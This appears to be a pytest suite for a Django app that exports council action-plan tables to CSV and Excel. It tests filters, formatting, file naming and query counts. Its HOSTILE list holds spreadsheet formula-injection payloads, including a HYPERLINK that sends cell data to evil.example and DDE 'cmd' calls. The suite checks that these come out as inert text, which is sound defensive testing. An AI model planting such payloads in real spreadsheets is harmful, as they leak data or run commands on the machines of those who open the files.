"""Downloading the plan table as CSV and Excel: the page's filters, every row, safe cells."""

from __future__ import annotations

import csv
import datetime
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from actionplans.exports import export_file_name
from actionplans.models import Action, ActionPlan, KeyOutcome, Lead, ProgressUpdate, Rag
from tests.conftest import build_period, build_plan

HEADINGS = [
    "Section",
    "Key Outcome",
    "Ref",
    "Action",
    "Lead",
    "By when?",
    "Deadline date",
    "Overdue",
    "Progress",
    "RAG",
    "Status",
    "Last updated",
]
ACTION = HEADINGS.index("Action")
HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def export_url(plan, file_format: str, query: str = "") -> str:
    url = reverse(
        f"actionplans:plan-export-{file_format}",
        kwargs={"org": plan.strategy.organisation.slug, "pk": plan.pk},
    )
    return f"{url}?{query}" if query else url


def csv_rows(response) -> list[list[str]]:
    text = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def xlsx_rows(response) -> list[list]:
    """The heading row, then every sheet's rows, sheet by sheet."""
    sheets = load_workbook(io.BytesIO(response.content)).worksheets
    rows = [list(row) for sheet in sheets for row in sheet.iter_rows(values_only=True)]
    return [rows[0]] + [row for row in rows if row != rows[0]]


def add_update(action, narrative: str, rag: str = Rag.GREEN) -> None:
    """Written as stored, not through the service (which tidies text): the file must cope
    with whatever is in the database, from an import or the admin too."""
    ProgressUpdate.objects.create(action=action, narrative=narrative, rag=rag)
    Action.objects.filter(pk=action.pk).update(rag=rag)


def add_actions(plan, count: int) -> None:
    """`count` more actions under a new key outcome, each with two progress updates."""
    lead = plan.actions.first().leads.first()
    outcome = KeyOutcome.objects.create(
        plan=plan, number=plan.key_outcomes.count() + 1, title="Young people are heard"
    )
    for number in range(1, count + 1):
        action = Action.objects.create(
            plan=plan, key_outcome=outcome, number=number, description=f"Extra {number}"
        )
        action.leads.add(lead)
        for words in ("Started", "Going well"):
            add_update(action, words)


@pytest.mark.django_db
def test_csv_has_the_columns_councils_know_and_the_latest_update_of_each_action(
    client, council, owner
):
    plan = build_plan(council, actions=1)
    action = plan.actions.get()
    action.leads.add(Lead.objects.create(organisation=council, name="Aa Health"))
    for words, rag in [("Asked the landlords", Rag.RED), ("Homes found for 12", Rag.AMBER)]:
        add_update(action, words, rag)
    client.force_login(owner)

    response = client.get(export_url(plan, "csv"))

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    lead = action.leads.exclude(name="Aa Health").get().name
    assert csv_rows(response) == [
        HEADINGS,
        [
            "Care leavers",
            "Care leavers have a home",
            "1.1",
            action.description,
            f"Aa Health; {lead}",
            "March 2030",
            "2030-03-31",
            "No",
            "Homes found for 12",
            "Amber",
            "Open",
            timezone.localdate().isoformat(),
        ],
    ]


@pytest.mark.django_db
def test_downloads_hold_every_row_the_filters_select_not_one_page(client, council, owner):
    plan = build_plan(council, actions=2)
    add_actions(plan, 55)  # more than the page's 50, all rated Green
    outcome = plan.key_outcomes.get(number=2)
    client.force_login(owner)
    unrated = [f"Action {n} of {plan.title}" for n in (1, 2)]
    extras = [f"Extra {n}" for n in range(1, 56)]

    for file_format, read in [("csv", csv_rows), ("xlsx", xlsx_rows)]:
        whole = read(client.get(export_url(plan, file_format, "page=2")))
        assert [row[ACTION] for row in whole[1:]] == unrated + extras, file_format
        chosen = read(client.get(export_url(plan, file_format, f"key_outcome={outcome.pk}")))
        assert [row[ACTION] for row in chosen[1:]] == extras, file_format
        not_rated = read(client.get(export_url(plan, file_format, "rag=none")))
        assert [row[ACTION] for row in not_rated[1:]] == unrated, file_format
        worst_first = read(client.get(export_url(plan, file_format, "sort=rag")))
        assert [row[ACTION] for row in worst_first[1:]] == extras + unrated, file_format


@pytest.mark.django_db
def test_excel_has_real_dates_a_bold_frozen_heading_and_filter_buttons(client, council, owner):
    plan = build_plan(council, actions=1)
    add_update(plan.actions.get(), "Line one\nLine two")
    client.force_login(owner)

    response = client.get(export_url(plan, "xlsx"))

    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert [cell.value for cell in sheet[1]] == HEADINGS
    assert sheet["A1"].font.b
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:L2"
    assert sheet["G2"].value == datetime.datetime(2030, 3, 31)
    assert sheet["G2"].number_format == "d mmm yyyy"
    assert sheet["L2"].value.date() == timezone.localdate()
    assert sheet["I2"].value == "Line one\nLine two"
    assert sheet["I2"].alignment.wrap_text
    assert sheet["J2"].value == "Green"


@pytest.mark.django_db
@pytest.mark.parametrize("hostile", HOSTILE)
def test_text_that_a_spreadsheet_would_run_is_written_as_text(client, council, owner, hostile):
    plan = build_plan(council, actions=1)
    action = plan.actions.get()
    Action.objects.filter(pk=action.pk).update(description=hostile, deadline_text=hostile)
    action.leads.set([Lead.objects.create(organisation=council, name=hostile)])
    add_update(action, hostile, Rag.RED)
    client.force_login(owner)

    row = csv_rows(client.get(export_url(plan, "csv")))[1]
    assert [row[i] for i in (3, 4, 5, 8)] == [f"'{hostile}"] * 4
    raw = client.get(export_url(plan, "csv")).content.decode("utf-8-sig")
    assert raw.splitlines()[1].startswith('"Care leavers",')  # every field quoted

    sheet = load_workbook(io.BytesIO(client.get(export_url(plan, "xlsx")).content)).active
    for cell in (sheet["D2"], sheet["E2"], sheet["F2"], sheet["I2"]):
        assert cell.data_type != "f", cell.coordinate
        # A carriage return may come back as a line feed (the XML parser openpyxl reads with
        # decides: lxml, present with python-docx, keeps it); what matters is the apostrophe.
        assert cell.value.replace("\r", "\n") == f"'{hostile}".replace("\r", "\n")


@pytest.mark.django_db
def test_excel_drops_characters_it_cannot_hold_and_still_guards_what_follows(
    client, council, owner
):
    plan = build_plan(council, actions=1)
    narrative = "\x0b=1+1 pasted from Word\x0bwith a vertical tab"
    add_update(plan.actions.get(), narrative)
    Action.objects.update(description="Long " * 8000)  # 40,000 characters
    client.force_login(owner)

    sheet = load_workbook(io.BytesIO(client.get(export_url(plan, "xlsx")).content)).active

    assert sheet["I2"].value == "'=1+1 pasted from Wordwith a vertical tab"
    assert sheet["D2"].value == ("Long " * 8000)[:32_766] + "…"  # Excel holds 32,767 at most
    row = csv_rows(client.get(export_url(plan, "csv")))[1]
    assert (row[8], row[3]) == (narrative, "Long " * 8000)


@pytest.mark.django_db
def test_csv_is_utf8_with_a_byte_order_mark_so_excel_reads_it(client, council, owner):
    plan = build_plan(council, actions=1)
    narrative = "Children\u2019s homes \u2013 £2,000 grant, café"
    add_update(plan.actions.get(), narrative)
    client.force_login(owner)

    content = client.get(export_url(plan, "csv")).content

    assert content.startswith(b"\xef\xbb\xbf" + b'"Section"')
    assert narrative.encode() in content


@pytest.mark.django_db
def test_files_are_named_for_the_council_the_plan_and_the_day(client, council, owner):
    plan = build_plan(council, actions=1, title="Corporate Parenting Action Plan 2024/27")
    client.force_login(owner)
    today = timezone.localdate().isoformat()
    stem = f"testshire-corporate-parenting-action-plan-202427-actions-{today}"

    for file_format in ("csv", "xlsx"):
        disposition = client.get(export_url(plan, file_format))["Content-Disposition"]
        assert disposition == f'attachment; filename="{stem}.{file_format}"'


@pytest.mark.django_db
def test_a_filter_that_makes_no_sense_sends_the_person_to_the_table_to_fix_it(
    client, council, owner
):
    plan = build_plan(council, actions=1)
    client.force_login(owner)

    response = client.get(export_url(plan, "csv", "rag=red&due_before=31%2F02%2F2027"))

    assert response.status_code == 302
    page = client.get(response["Location"])
    assert "Due before must be a real date" in page.content.decode()


@pytest.mark.django_db
@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_download_query_count_does_not_grow_with_rows(client, council, owner, file_format):
    plan = build_plan(council, actions=2)
    build_period(plan)
    client.force_login(owner)
    query = "rag=green&rag=none&lead=" + str(plan.actions.first().leads.get().pk)

    def queries() -> tuple[int, int]:
        with CaptureQueriesContext(connection) as captured:
            response = client.get(export_url(plan, file_format, query))
        assert response.status_code == 200
        rows = csv_rows(response) if file_format == "csv" else xlsx_rows(response)
        return len(captured), len(rows) - 1

    small = queries()
    add_actions(plan, 40)
    large = queries()
    assert small[1] == 2
    assert large[1] == 42
    assert large[0] == small[0]


@pytest.mark.django_db
def test_plan_page_links_to_both_downloads_with_its_filters_but_not_its_page(
    client, council, owner
):
    plan = build_plan(council, actions=1)
    client.force_login(owner)
    page_url = reverse("actionplans:plan-detail", kwargs={"org": council.slug, "pk": plan.pk})

    page = client.get(f"{page_url}?rag=none&q=action&page=1&apply=Apply+filters").content.decode()

    for file_format, words in [("csv", "as CSV"), ("xlsx", "as Excel")]:
        link = f'href="{export_url(plan, file_format)}?rag=none&amp;q=action"'
        assert f"{link}>Download these actions {words}</a>" in page
    assert page.index("1 action match") < page.index("Download these actions as CSV")
    with_error = client.get(f"{page_url}?due_after=soon").content.decode()
    assert "Download these actions" not in with_error


@pytest.mark.django_db
def test_an_action_with_no_leads_update_or_section_shows_its_lead_in_words_and_empty_cells(
    client, council, owner
):
    plan = build_plan(council, actions=1)
    action = plan.actions.get()
    action.leads.clear()
    Action.objects.filter(pk=action.pk).update(leads_text="Director of Children's Services")
    KeyOutcome.objects.update(section=None)
    client.force_login(owner)

    row = csv_rows(client.get(export_url(plan, "csv")))[1]
    assert (row[0], row[4], row[8], row[11]) == ("", "Director of Children's Services", "", "")
    sheet = load_workbook(io.BytesIO(client.get(export_url(plan, "xlsx")).content)).active
    assert [sheet[f"{column}2"].value for column in "AEIL"] == [
        None,
        "Director of Children's Services",
        None,
        None,
    ]


@pytest.mark.django_db
def test_last_updated_is_the_day_of_the_latest_update_in_the_councils_time_zone(
    client, council, owner
):
    plan = build_plan(council, actions=1)
    add_update(plan.actions.get(), "Panel booked")
    # 23:30 in London on 14 May 2026 is 22:30 UTC: the day is the 14th, not the day of the run.
    written = datetime.datetime(2026, 5, 14, 22, 30, tzinfo=datetime.UTC)
    ProgressUpdate.objects.update(created_at=written)
    client.force_login(owner)

    assert csv_rows(client.get(export_url(plan, "csv")))[1][11] == "2026-05-14"
    sheet = load_workbook(io.BytesIO(client.get(export_url(plan, "xlsx")).content)).active
    assert sheet["L2"].value == datetime.datetime(2026, 5, 14)


@pytest.mark.django_db
def test_excel_keeps_a_cell_of_exactly_32767_characters_whole(client, council, owner):
    plan = build_plan(council, actions=1)
    Action.objects.update(description="x" * 32_767)
    client.force_login(owner)

    sheet = load_workbook(io.BytesIO(client.get(export_url(plan, "xlsx")).content)).active

    assert sheet["D2"].value == "x" * 32_767


@pytest.mark.django_db
def test_excel_names_its_sheet_and_title_and_sizes_and_aligns_its_columns(client, council, owner):
    plan = build_plan(council, actions=1, title="Corporate Parenting Action Plan")
    add_update(plan.actions.get(), "Panel booked")
    client.force_login(owner)

    workbook = load_workbook(io.BytesIO(client.get(export_url(plan, "xlsx")).content))

    sheet = workbook.active
    assert workbook.sheetnames == ["Care leavers"]
    assert workbook.properties.title == "Corporate Parenting Action Plan"
    widths = [sheet.column_dimensions[letter].width for letter in "ABCDEFGHIJKL"]
    assert widths == [18, 32, 6, 50, 24, 16, 12, 9, 60, 16, 16, 12]
    cells = sheet[2]
    wraps = [True, True, None, True, True, True, None, None, True, None, None, None]
    assert [cell.alignment.wrap_text for cell in cells] == wraps
    assert {cell.alignment.vertical for cell in cells} == {"top"}
    assert sheet["L2"].number_format == "d mmm yyyy"
    assert sheet["F2"].number_format == "General"


CUT = "corporate-parenting-action-plan-for-children-in-care-2024"


@pytest.mark.parametrize(
    ("title", "stem"),
    [
        # 60 characters: kept whole.
        ("Corporate parenting action plan for children in care 2024 27", f"{CUT}-27"),
        # 61: cut back to the last whole word within 60.
        ("Corporate parenting action plan for children in care 2024 278", CUT),
        ("Corporate parenting action plan for children in care 2024 278 and more", CUT),
        # The 61st character is a hyphen: the 60 before it are whole words.
        ("Corporate parenting action plan for children in care 2024 27 and more", f"{CUT}-27"),
        # Nothing a file name can hold: the plan's number.
        ("¿¡!?", "plan-42"),
    ],
)
def test_a_long_plan_title_is_cut_to_whole_words_in_the_file_name(title, stem):
    plan = ActionPlan(pk=42, title=title)

    name = export_file_name("testshire", plan, datetime.date(2026, 12, 2))

    assert name == f"testshire-{stem}-actions-2026-12-02"
